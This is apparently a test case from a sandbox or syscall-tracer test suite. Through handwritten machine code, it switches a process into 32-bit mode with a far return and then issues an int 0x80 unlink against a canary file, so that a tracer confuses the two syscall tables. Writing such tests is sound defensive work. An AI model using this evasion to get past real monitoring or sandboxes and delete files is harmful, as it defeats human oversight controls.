# SPDX-License-Identifier: Apache-2.0
# tries: switch the processor to 32-bit code and remove a file from there (S41)
# proof: changed
# needs: i386
#
# A far return to code segment 0x23 makes the rest of the function 32-bit code.  A tracer that tells
# the two tables apart by the instruction's bytes or by what the program file says is wrong here.
# pyjail ends the process, so the attack is made by a child.

import ctypes
import mmap
import os
import struct

I386_exit, I386_unlink = 1, 10
MAP_32BIT = 0x40

page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                 prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
far = bytes.fromhex('6a23 68') + struct.pack('I', at + 64)      # push 0x23; push at + 64
far += bytes.fromhex('48cb')                                    # retfq
code = b'\xbb' + struct.pack('I', at + 1024)                    # mov ebx, path
code += b'\xb8' + struct.pack('I', I386_unlink) + b'\xcd\x80'   # mov eax, unlink; int 0x80
code += b'\xb8' + struct.pack('I', I386_exit) + b'\x31\xdb\xcd\x80'
page[:len(far)] = far
page[64:64 + len(code)] = code
path = b'@CANARY@/file\0'
page[1024:1024 + len(path)] = path

pid = os.fork()
if pid == 0:
    ctypes.CFUNCTYPE(None)(at)()
os.waitpid(pid, 0)
